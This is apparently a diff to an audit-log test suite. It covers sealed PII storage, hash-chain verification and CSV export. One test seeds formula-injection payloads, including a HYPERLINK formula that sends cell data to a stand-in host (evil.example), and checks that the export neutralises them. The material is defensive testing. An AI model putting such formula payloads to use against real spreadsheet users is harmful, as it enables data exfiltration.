@@ -70,7 +70,8 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
       seq: 1,
       hash: ref.hash,
       action: 'system.started',
-      ip: '192.0.2.7',
+      // A user's IP is stored sealed under their PII key (DATA-2; audit-pii.ts).
+      ip: expect.stringMatching(/^enc1\.pik_/),
     });
     await audit.close();
   });
@@ -319,7 +320,13 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
     expect(lines).toHaveLength(2501);
     let prev = GENESIS_HASH;
     for (const line of lines) {
-      const { prevHash, hash, time: _time, ...hashed } = JSON.parse(line) as Record<string, unknown>;
+      const {
+        prevHash,
+        hash,
+        time: _time,
+        shown: _shown,
+        ...hashed
+      } = JSON.parse(line) as Record<string, unknown>;
       expect(prevHash).toBe(prev);
       const recomputed = createHash('sha256')
         .update(`${prev}\n${canonicalJson(hashed)}`)
@@ -339,7 +346,8 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
     const { audit } = await openAudit(database());
     await audit.record(
       event('org_a', 1, {
-        actor: { type: 'user', id: 'usr_x', display: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
+        // An API key's name (a user's display would be stored sealed, DATA-2).
+        actor: { type: 'api_key', id: 'usr_x', display: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
       }),
     );
     await audit.record(event('org_a', 2, { target: { type: 'agent', id: '@SUM(1+1)', display: '-2+3' } }));
@@ -353,7 +361,7 @@ describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) =
     );
     const [header, row] = csv.split('\r\n');
     expect(header).toBe(
-      'seq,id,time,ts,chain,org,actor_type,actor_id,actor_display,ip,user_agent,action,target_type,target_id,target_display,outcome,request_id,details,prev_hash,hash',
+      'seq,id,time,ts,chain,org,actor_type,actor_id,actor_display,ip,user_agent,action,target_type,target_id,target_display,outcome,request_id,details,prev_hash,hash,shown_actor_display,shown_ip,shown_user_agent,shown_target_display',
     );
     expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(row).not.toMatch(/,=HYPERLINK/);
